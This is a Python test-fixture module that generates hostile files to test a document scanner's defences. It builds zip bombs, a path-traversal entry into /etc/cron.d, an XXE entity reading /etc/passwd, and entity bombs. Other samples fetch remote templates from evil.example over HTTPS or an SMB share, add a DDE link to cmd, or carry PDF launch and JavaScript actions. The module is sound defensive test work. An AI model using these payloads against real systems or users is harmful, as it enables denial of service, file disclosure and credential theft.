"""Files that try to hurt whoever opens them: one small generator for each kind that promise S6 names."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from wardmote.core.documents.tests.making import docx_parts, p, packed, pdf, relationships, xlsx_parts

MIB = 1024 * 1024
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def zip_bomb() -> bytes:
    """One part of repeated words that unpacks to 300 MiB."""
    return packed({**docx_parts(p("x")), "word/document.xml": b"<a>" + b"words " * (50 * MIB) + b"</a>"})


def many_small_bombs() -> bytes:
    """Parts that each stay below the limit for one, and together do not."""
    parts = docx_parts(p("x"))
    return packed({**parts, **{f"word/media/{number}.bin": bytes(4 * MIB) for number in range(90)}})


def overlapping_entries() -> bytes:
    """A thousand names for the same packed megabyte: Python's zipfile would unpack each."""
    packed_once = packed({"word/document.xml": b"<a/>" + bytes(MIB)})
    end = packed_once.rfind(b"PK\x05\x06")
    directory_at = struct.unpack("<L", packed_once[end + 16 : end + 20])[0]
    entry = packed_once[directory_at:end]
    name_length = struct.unpack("<H", entry[28:30])[0]
    entries = b"".join(
        entry[:46] + f"{number:0{name_length}d}".encode() + entry[46 + name_length :] for number in range(1_000)
    )
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(entries), directory_at, 0)
    return packed_once[:directory_at] + entries + tail


def too_many_entries() -> bytes:
    """Ten thousand empty parts."""
    return packed({**docx_parts(p("x")), **{f"word/{number}.xml": b"" for number in range(10_000)}})


def understated_size() -> bytes:
    """A part whose table of contents says it is small; the bytes go on."""
    made = bytearray(packed({**docx_parts(p("x")), "word/document.xml": b"<a>" + b" " * (8 * MIB) + b"</a>"}))
    name = b"word/document.xml"
    at = made.rfind(name)
    struct.pack_into("<L", made, at - 46 + 24, 100)
    return bytes(made)


def two_parts_of_one_name() -> bytes:
    """Checked as one, read as the other."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in docx_parts(p("Innocent")).items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", "<a/>")
    return target.getvalue()


def climbing_name() -> bytes:
    """A part that would be written outside its folder."""
    return packed({**docx_parts(p("x")), "../../etc/cron.d/x": "* * * * * root x"})


def absolute_name() -> bytes:
    """A part with a path from the root."""
    return packed({**docx_parts(p("x")), "/etc/passwd": "x"})


def _with_document(prolog: str, body: str = "&x;") -> bytes:
    parts = docx_parts(p(body))
    parts["word/document.xml"] = f"{prolog}{parts['word/document.xml']!s}"
    return packed(parts)


def external_entity() -> bytes:
    """XXE: asks for a file of the machine."""
    return _with_document('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def entity_bomb() -> bytes:
    """A billion laughs."""
    entities = '<!ENTITY x0 "lol">' + "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    return _with_document(f"<!DOCTYPE w [{entities}]>", "&x9;")


def entity_bomb_in_utf16() -> bytes:
    """The same in an encoding in which a search of the bytes would miss it."""
    parts = docx_parts(p("x"))
    parts["word/styles.xml"] = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'.encode(
        "utf-16"
    )
    return packed(parts)


def entity_in_a_sheet() -> bytes:
    """A document type in a streamed part."""
    parts = xlsx_parts("<sheetData/>")
    parts["xl/worksheets/sheet1.xml"] = f'<!DOCTYPE w [<!ENTITY x "y">]>{parts["xl/worksheets/sheet1.xml"]!s}'
    return packed(parts)


def odd_encoding() -> bytes:
    """UTF-7 hides what a byte search looks for."""
    parts = docx_parts(p("x"))
    parts["word/document.xml"] = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'
    return packed(parts)


def macros() -> bytes:
    """A Word file with a program in it."""
    return packed({**docx_parts(p("x")), "word/vbaProject.bin": _OLE})


def macro_enabled_type() -> bytes:
    """A workbook that says it is made for programs."""
    parts = xlsx_parts("<sheetData/>")
    types = str(parts["[Content_Types].xml"])
    parts["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return packed(parts)


def excel4_macro_sheet() -> bytes:
    """A workbook with programs of the old kind, kept in a sheet."""
    return packed({**xlsx_parts("<sheetData/>"), "xl/macrosheets/sheet1.xml": "<xm/>"})


def embedded_object() -> bytes:
    """A file of another program inside a Word file."""
    return packed({**docx_parts(p("x")), "word/embeddings/oleObject1.bin": _OLE})


def active_x() -> bytes:
    """A control that runs when the file is opened."""
    return packed({**docx_parts(p("x")), "word/activeX/activeX1.xml": "<ax/>"})


def dde_link() -> bytes:
    """A workbook that asks another program for data."""
    return packed(
        {
            **xlsx_parts("<sheetData/>"),
            "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        }
    )


def remote_template() -> bytes:
    """A Word file that fetches its template, and with it programs, from elsewhere."""
    links = relationships({"r1": ("attachedTemplate", "https://evil.example/t.dotm")}, external=frozenset({"r1"}))
    return packed({**docx_parts(p("x")), "word/_rels/settings.xml.rels": links})


def remote_template_on_a_share() -> bytes:
    """The same from a network share, which also gives away the reader's password."""
    links = relationships({"r1": ("attachedTemplate", r"\\evil.example\share\t.dotm")}, external=frozenset({"r1"}))
    return packed({**docx_parts(p("x")), "word/_rels/settings.xml.rels": links})


def remote_object() -> bytes:
    """A Word file that fetches an object."""
    links = relationships({"r1": ("oleObject", "https://evil.example/x")}, external=frozenset({"r1"}))
    return packed({**docx_parts(p("x")), "word/_rels/header1.xml.rels": links})


def zip_behind_a_pdf() -> bytes:
    """A polyglot: a PDF to one program, an archive to another."""
    return pdf("Words.") + packed(docx_parts(p("Other words")))


def words_before_a_zip() -> bytes:
    """A polyglot: an archive with something before it."""
    return b"<html><script>x</script></html>" + packed(docx_parts(p("x")))


def words_behind_a_zip() -> bytes:
    """A polyglot: an archive with something after it."""
    return packed(docx_parts(p("x"))) + b"<html><script>x</script></html>"


def note_behind_a_zip() -> bytes:
    """The same, as the archive's own comment."""
    target = io.BytesIO(packed(docx_parts(p("x"))))
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = b"<html><script>x</script></html>"
    return target.getvalue()


def pixel_flood() -> bytes:
    """A picture of a few bytes that unpacks to a square of 60,000 pixels."""
    header = struct.pack(">2L5B", 60_000, 60_000, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n"
    for kind, body in ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(1_000))), (b"IEND", b"")):
        png += struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))
    return png


def wide_sheet() -> bytes:
    """A sheet of 100,000 columns."""
    cells = "".join("<c><v>1</v></c>" for _ in range(100_000))
    return packed(xlsx_parts(f"<sheetData><row>{cells}</row></sheetData>"))


def endless_sheet() -> bytes:
    """A sheet whose two million rows unpack from little."""
    return packed(xlsx_parts(f"<sheetData>{'<row><c><v>1</v></c></row>' * 2_000_000}</sheetData>"))


def flood_of_elements() -> bytes:
    """A body of eleven million empty elements, just below the limit for one part."""
    return packed({**docx_parts("<w:p/>" * (45 * MIB // 6)), "word/styles.xml": "<w/>"})


def deep_nesting() -> bytes:
    """Tables in tables, two hundred thousand deep."""
    return packed(docx_parts("<w:tbl><w:tr><w:tc>" * 200_000))


def repeated_rows() -> bytes:
    """A small OpenDocument sheet that says it has a million rows of a thousand words."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    spaces = " ".join(f'xmlns:{name}="{names}:{name}:1.0"' for name in ("office", "table", "text"))
    cell = '<table:table-cell table:number-columns-repeated="999"><text:p>x</text:p></table:table-cell>'
    content = (
        f"<office:document-content {spaces}><office:body><office:spreadsheet><table:table>"
        f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content})


def _pdf_with(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("Words."))) as document:
        change(document)
        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return target.getvalue()


def pdf_with_a_program() -> bytes:
    """A PDF that runs a program when it is opened, hidden in a compressed stream of objects."""
    return _pdf_with(
        lambda document: document.Root.__setitem__(
            "/OpenAction", document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
        )
    )


def pdf_that_launches() -> bytes:
    """A PDF that starts another program from a link."""
    return _pdf_with(
        lambda document: document.pages[0].__setitem__(
            "/AA", pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))
        )
    )


def pdf_with_a_file_inside() -> bytes:
    """A PDF that carries another file."""
    return _pdf_with(lambda document: document.attachments.__setitem__("x.exe", b"MZ"))


def pdf_bomb() -> bytes:
    """A PDF whose page unpacks to 900 MiB of drawing."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("Words."))) as document:
        stream = document.make_stream(b"")
        squeezed = zlib.compress(zlib.compress(b"0 0 m 1 1 l S " * (64 * MIB), 9), 9)
        stream.write(squeezed, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
        document.pages[0].Contents = stream
        document.save(target)
    return target.getvalue()


def pdf_of_many_pages() -> bytes:
    """A PDF of 20,000 pages that are all the same one."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("Words."))) as document:
        page = document.pages[0].obj
        document.Root.Pages.Kids = pikepdf.Array([page] * 20_000)
        document.Root.Pages.Count = 20_000
        document.save(target)
    return target.getvalue()


def flood_of_html() -> bytes:
    """A page of table cells without end."""
    return b"<html><table>" + b"<tr>" + b"<td>" * (3 * MIB // 2)


def wide_spans() -> bytes:
    """A page whose few cells each say they span a thousand columns and 65,534 rows."""
    return b"<html><table>" + b"<tr>" + b"<td colspan=1000 rowspan=65534>x" * 50 + b"<tr><td>y" * 5_000


def crossed_merges() -> bytes:
    """A sheet with merged ranges laid over each other."""
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>1</v></c><c r="AZ{at}"><v>1</v></c></row>' for at in range(1, 5_001))
    merges = "".join(f'<mergeCell ref="A{at}:AZ5000"/>' for at in range(1, 4_000))
    return packed(xlsx_parts(f"<sheetData>{rows}</sheetData><mergeCells>{merges}</mergeCells>"))


def quote_flood() -> bytes:
    """Separated values with a quotation mark that is never closed, and 30 MiB after it."""
    return b'a,b\n"' + b"x\n" * (15 * MIB)


KINDS: dict[str, tuple[Callable[[], bytes], str]] = {
    made.__name__: (made, f"{made.__name__}.{ending}")
    for ending, group in {
        "docx": (
            zip_bomb, many_small_bombs, overlapping_entries, too_many_entries, understated_size, two_parts_of_one_name,
            climbing_name, absolute_name, external_entity, entity_bomb, entity_bomb_in_utf16, odd_encoding, macros,
            embedded_object, active_x, remote_template, remote_template_on_a_share, remote_object, words_before_a_zip,
            words_behind_a_zip, note_behind_a_zip, flood_of_elements, deep_nesting,
        ),
        "xlsx": (
            entity_in_a_sheet, macro_enabled_type, excel4_macro_sheet, dde_link, wide_sheet, endless_sheet, crossed_merges,
        ),
        "ods": (repeated_rows,),
        "pdf": (zip_behind_a_pdf, pdf_with_a_program, pdf_that_launches, pdf_with_a_file_inside, pdf_bomb, pdf_of_many_pages),
        "png": (pixel_flood,),
        "html": (flood_of_html, wide_spans),
        "csv": (quote_flood,),
    }.items()
    for made in group
}  # fmt: skip
"""Every kind by name: what makes it, and the name it is sent under."""
